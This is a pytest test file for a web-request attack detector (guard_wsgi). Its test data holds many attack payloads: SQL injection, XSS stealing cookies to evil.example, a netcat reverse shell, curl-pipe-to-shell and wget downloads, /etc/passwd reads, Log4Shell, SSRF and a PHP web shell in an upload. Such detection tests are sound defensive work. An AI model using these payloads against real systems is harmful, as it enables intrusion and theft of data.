"""Attacks are found wherever they are placed and however they are wrapped."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest

from guard_wsgi.detection import Inspection
from tests.detection.requests import PLACES, environ, findings_in

ATTACKS = {
    "sqli": (
        "1' OR '1'='1' -- -",
        "1'/**/or/**/1=1#",
        "-1 UNION ALL SELECT NULL,username,password FROM users--",
        "1; DROP TABLE users--",
        "1 AND (SELECT 5 FROM (SELECT SLEEP(5))x)",
        "admin'--",
        '") or ("a"="a',
        "1'||(select extractvalue(1,concat(0x7e,version())))||'",
    ),
    "xss": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        '" onmouseover="alert(1)" x="',
        "javascript:alert(1)//",
        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
        "';alert(String.fromCharCode(88,83,83))//",
    ),
    "cmd_injection": (
        "127.0.0.1; cat /etc/passwd",
        "x | nc -e /bin/sh 10.0.0.1 4444",
        "$(curl http://evil.example/x.sh|sh)",
        "`wget http://evil.example/a -O /tmp/a`",
        "a;cat${IFS}/etc/passwd",
    ),
    "path": ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/shadow"),
    "template": (
        "{{7*7}}",
        "${7*7}",
        "<%= system('id') %>",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
    ),
    "log4shell": (
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    ),
    "xml": ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',),
    "ldap": ("*)(uid=*))(|(uid=*", "admin)(&(password=*))"),
    "ssi": ('<!--#exec cmd="ls /" -->',),
    "code": (
        "<?php system($_GET['c']); ?>",
        "__import__('os').system('id')",
        "require('child_process').exec('id')",
    ),
    "ssrf": (
        "http://169.254.169.254/latest/meta-data/",
        "gopher://127.0.0.1:6379/_INFO",
        "php://filter/convert.base64-encode/resource=index.php",
    ),
    "serial": ('O:8:"Evil\\Code":1:{s:1:"a";i:1;}', "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
}
ALL = [payload for payloads in ATTACKS.values() for payload in payloads]


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("payload", ALL)
def test_a_plain_attack_is_found_in_every_place(
    inspection: Inspection, place: str, payload: str
) -> None:
    assert findings_in(inspection, place, payload)


@pytest.mark.parametrize(
    "family", ["sqli", "xss", "cmd_injection", "template", "log4shell", "xml", "ldap", "ssi"]
)
def test_the_category_says_what_it_is(inspection: Inspection, family: str) -> None:
    """The first payload of each family."""
    assert findings_in(inspection, "query", ATTACKS[family][0])[0].category == family


def twice(payload: str) -> str:
    return quote(quote(payload, safe=""), safe="")


def entities(payload: str) -> str:
    return "".join(f"&#x{ord(character):x};" for character in payload)


def escapes(payload: str) -> str:
    return "".join(f"\\u{ord(character):04x}" for character in payload)


def percent_u(payload: str) -> str:
    return "".join(f"%u{ord(character):04x}" for character in payload)


def wide(payload: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in payload)


def wrapped(payload: str) -> str:
    return base64.b64encode(payload.encode()).decode()


def flat(payload: str) -> str:
    """As wrapped, without padding."""
    return wrapped(payload).rstrip("=")


@pytest.mark.parametrize(
    "text",
    [
        "1'\xa0or\xa01=1-- -",
        "1%'%\x0e%O%R\x04%2%=%2%-%-",
        "en\nenv;",
        'O:+4:"Test":0:{}',
        "http://www.example.org\r\nX-Injected: 1",
    ],
)
def test_blanks_of_other_kinds_hide_nothing(inspection: Inspection, text: str) -> None:
    assert findings_in(inspection, "query", text)


@pytest.mark.parametrize("encode", [flat, twice, entities, escapes, percent_u, wide, wrapped])
@pytest.mark.parametrize(
    "payload",
    [
        "1' OR '1'='1' -- -",
        "<script>alert(1)</script>",
        "127.0.0.1; cat /etc/passwd",
        "../../../../etc/passwd",
        "-1 UNION SELECT 1,2,3 FROM users",
    ],
)
def test_an_encoded_attack_is_found(inspection: Inspection, encode: object, payload: str) -> None:
    assert callable(encode)
    assert findings_in(inspection, "query", encode(payload))
    assert findings_in(inspection, "json", encode(payload))


@pytest.mark.parametrize(
    "path",
    [
        "/.git/config",
        "/.env",
        "/wp-config.php.bak",
        "/static/..;/manager/html",
        "/cgi-bin/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    ],
)
def test_a_probe_in_the_path_is_found(inspection: Inspection, path: str) -> None:
    assert inspection.head(environ(path=path))


PROSE_BEFORE = (
    "Our neighbours were so kind to us when we moved in, and their garden is a pleasure to see. "
)
PROSE_AFTER = (
    " Write back soon, we would love to know how your journey was and who came along with you"
)


@pytest.mark.parametrize("family", sorted(ATTACKS))
def test_sentences_around_an_attack_do_not_hide_it(inspection: Inspection, family: str) -> None:
    payload = ATTACKS[family][0]
    for text in (PROSE_BEFORE + payload, payload + PROSE_AFTER, PROSE_BEFORE * 3 + payload):
        assert findings_in(inspection, "query", text), text
        assert findings_in(inspection, "json", text), text


@pytest.mark.parametrize(
    "text",
    [
        "Could you order another case for the kitchen? It's empty, or will be by the end of May.",
        "I like the \"small\" one and the 'large' one, but my sister says that neither will do.",
        "We met at 7:30; she had left her bag (the red one) on the train, and it was gone by then.",
        "Please select a colour from the list where it says drop & ship, then tell me what it is",
    ],
)
def test_sentences_by_themselves_pass(inspection: Inspection, text: str) -> None:
    for place in ("query", "form", "json", "multipart"):
        assert not findings_in(inspection, place, text)


@pytest.mark.parametrize(
    "payload", ["&& ls -la #", "/proc/self/environ", "user[$ne]=x&pass[$ne]=y"]
)
def test_three_layers_of_escapes_hide_nothing(inspection: Inspection, payload: str) -> None:
    assert findings_in(inspection, "query", twice(payload))


@pytest.mark.parametrize(
    "payload",
    [
        ";c''at /e''tc/pa''sswd",
        "' or 1=1#",
        '{"username": {"$ne": null}, "password": {"$ne": null}}',
        "-1--\n union\x0c( select table_name from information_schema.tables limit 1,1)",
    ],
)
def test_base64_is_read_like_the_text_in_it(inspection: Inspection, payload: str) -> None:
    assert findings_in(inspection, "query", wrapped(payload))


def test_many_guesses_in_one_request_are_found(inspection: Inspection) -> None:
    aliases = " ".join(f'a{n}: login(user: "ann", pin: "{n}") {{ token }}' for n in range(9))
    body = json.dumps({"query": "mutation { " + aliases + " }"}).encode()
    (finding,) = inspection.body(body, content_type="application/json")
    assert finding.category == "graphql"
    one = {"query": 'mutation{login(user:"ann",pin:"1"){token}}'}
    assert inspection.body(json.dumps([one] * 9).encode(), content_type="application/json")
    assert not inspection.body(json.dumps(one).encode(), content_type="application/json")


@pytest.mark.parametrize(
    "query",
    [
        "url=http://127.0.0.1/",
        "next=https:evil.example",
        "next=//%250d%250aevil.example",
        "f=find+/+-name+x",
    ],
)
def test_local_and_misleading_addresses_are_found(inspection: Inspection, query: str) -> None:
    assert inspection.head(environ(query=query))


def test_a_local_address_to_return_to_passes(inspection: Inspection) -> None:
    query = "redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&next=http%3A%2F%2Flocalhost%2F"
    assert not inspection.head(environ(query=query))


def test_every_repeat_of_a_parameter_is_seen(inspection: Inspection) -> None:
    """Lesson 2: only the first value of a name was looked at."""
    assert inspection.head(environ(query="q=safe&q=" + quote("1' or '1'='1")))


def test_filler_does_not_hide_an_attack(inspection: Inspection) -> None:
    """Lesson 3: 300 parameters in front, or half a megabyte."""
    many = "&".join(f"p{number}=x" for number in range(3000))
    assert inspection.head(environ(query=many + "&q=%3Cscript%3Ealert(1)%3C/script%3E"))
    body = b"a=" + b"lorem ipsum " * 15000 + b"&b=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    assert inspection.body(body, content_type="application/x-www-form-urlencoded")
    body = b"a=" + b"lorem ipsum " * 15000 + b"1' union select password from users-- -"
    assert inspection.body(body, content_type="application/x-www-form-urlencoded")


def test_an_upload_with_a_script_is_found(inspection: Inspection) -> None:
    part = (
        b'--X\r\nContent-Disposition: form-data; name="f"; filename="a.php.jpg"\r\n'
        b"Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0\x00\x10JFIF"
        + bytes(range(256)) * 4
        + b"<?php system($_GET['c']); ?>\r\n--X--\r\n"
    )
    found = inspection.body(part, content_type="multipart/form-data; boundary=X")
    assert {finding.location for finding in found} == {"multipart"}
    assert "file_upload" in {finding.category for finding in found}


@pytest.mark.parametrize(
    "content_type",
    [
        "%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}",
        "${jndi:ldap://evil.example/a}",
    ],
)
def test_refuses_an_attack_in_the_content_type(inspection: Inspection, content_type: str) -> None:
    """Struts evaluated it (CVE-2017-5638), whatever else the head contains."""
    for more in ({}, {"HTTP_HOST": "shop.example.com"}, {"HTTP_HOST": "a", "HTTP_ACCEPT": "b"}):
        found = inspection.head({"PATH_INFO": "/", "CONTENT_TYPE": content_type, **more})
        assert any(finding.name == "content-type" for finding in found), found


def test_refuses_an_attack_in_a_head_that_has_a_path_and_nothing_else(
    inspection: Inspection,
) -> None:
    assert inspection.head({"PATH_INFO": "/files/../../../../etc/passwd"})
    assert not inspection.head({"PATH_INFO": "/files/report.pdf"})
    assert not inspection.head({})


@pytest.mark.parametrize(
    "query",
    [
        "code=ansible-playbook%20site.yml%20-i%20hosts",
        "cmd=zstdcat%20/var/log/auth.zst",
        "arg=;cpulimit%20-l%20100%20-f%20whoami",
        "code=time;%20cscli%20alerts%20list",
        "file=a;cd%20/;cd%20etc;column%20passwd",
        "a=bin/visudo",
        "x=%7B,ifconfig,eth0%7D",
        "x=~%2B",
        "x=%24SHELL%20-c%20%22echo%20hi%22",
        "x=IF%20EXIST%20data.xls%20Echo%20found",
        "x=c99%20-wrapper%20sh,-c,id%20.",
    ],
)
def test_a_command_of_an_administrator_is_found(inspection: Inspection, query: str) -> None:
    assert inspection.head(environ(query=query))


@pytest.mark.parametrize(
    "text",
    [
        "exec /*x*/ ('id')",
        "$d['o'](9)",
        '("sys"."tem")("id")',
        "Foo::$method()",
        "posix_getpwuid(0)",
        "session.save_path=/tmp",
        "[system][0](ls);",
    ],
)
def test_php_is_found_however_it_is_called(inspection: Inspection, text: str) -> None:
    for place in ("query", "form"):
        assert findings_in(inspection, place, text), place


@pytest.mark.parametrize(
    "text",
    [
        "x' or '{\"b\":2}'::jsonb <@ '{\"a\":1}'::jsonb--",
        "1.e(ascii(substring(version(),1,1)))",
        "aa'&0+1='aa",
        "1'*@a is null - '",
        "asd'^0+1-1=(0)-- -a",
        "' XOR '",
        "select id,sin(1),2 from bar where",
        "1 || (select user from users limit 1) = 'admin'",
        "0 div 1 union#x\nselect 1,2",
        "load_file (",
    ],
)
def test_a_string_broken_out_of_is_found(inspection: Inspection, text: str) -> None:
    for place in ("query", "form"):
        assert findings_in(inspection, place, text), place


@pytest.mark.parametrize(
    "text",
    [
        "window.location='//evil.example'",
        "setInterval(code, 1)",
        "foo<f o r m",
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "[].sort.call`${alert}1`",
        "new Function(",
        'document.querySelector("p").innerHTML="x"',
    ],
)
def test_a_script_without_tags_is_found(inspection: Inspection, text: str) -> None:
    for place in ("query", "form"):
        assert findings_in(inspection, place, text), place


@pytest.mark.parametrize(
    "query",
    [
        "url=ip6-loopback/",
        "url=localhost4.localdomain4/",
        "src=http://203.0.113.7/shell.php",
        "page=http://203.0.113.7/x.txt?",
        "url=https://shop.example.com.evil.example/",
        "next=https://shop.example.com.evil.io",
    ],
)
def test_an_address_the_server_would_fetch_is_found(inspection: Inspection, query: str) -> None:
    assert inspection.head(environ(query=query))


@pytest.mark.parametrize(
    "name", ["ProcessBuilder.evil.clonetransformer", "java.lang.Runtime", "org.apache.commons.io"]
)
def test_a_class_as_the_name_of_a_field_is_found(inspection: Inspection, name: str) -> None:
    assert inspection.head(environ(query=name + "=1"))
    assert inspection.head(environ(HTTP_COOKIE=name + "=1"))
    body = json.dumps({name: "1"}).encode()
    assert inspection.body(body, content_type="application/json")
    part = f'--X\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n1\r\n--X--\r\n'.encode()
    assert inspection.body(part, content_type="multipart/form-data; boundary=X")


@pytest.mark.parametrize(
    "file", ["a.php", "photo.jpg.phtml", "x.php5...", "sess_d8ew88tqmabdcokhumchy8htqm", "b.jsp"]
)
def test_a_script_named_by_a_header_is_found(inspection: Inspection, file: str) -> None:
    assert inspection.head(environ(HTTP_X_FILENAME=file))


def test_a_header_in_the_name_of_a_parameter_is_found(inspection: Inspection) -> None:
    assert inspection.head(environ(query="%0D%0ARemote-Addr:%20192.0.2.1=x"))


def test_a_media_type_as_a_boundary_is_found(inspection: Inspection) -> None:
    kind = 'application/x-www-form-urlencoded;boundary="application/json"'
    assert inspection.head(environ(CONTENT_TYPE=kind))


def test_a_line_break_in_a_path_is_found(inspection: Inspection) -> None:
    assert inspection.head(environ(path="/index.php/PHP_VALUE\nsession.auto_start=1;;;"))


@pytest.mark.parametrize(
    "payload",
    ["1\tAND\t1=0", "' OR\tUserID\tIS\tNOT\tNULL", "1\tORDER\tBY\t5#", "a&\tls\t-l\t/"],
)
@pytest.mark.parametrize("place", PLACES)
def test_tabs_in_the_place_of_blanks_hide_nothing(
    inspection: Inspection, place: str, payload: str
) -> None:
    """A JSON document writes a tab as a letter after a backslash."""
    assert findings_in(inspection, place, payload)


@pytest.mark.parametrize("place", ["query", "form", "json"])
def test_a_plus_in_the_place_of_a_blank_hides_nothing(inspection: Inspection, place: str) -> None:
    """Values that were encoded for a query are sent in documents as well."""
    assert findings_in(inspection, place, "8+and+1=1--")
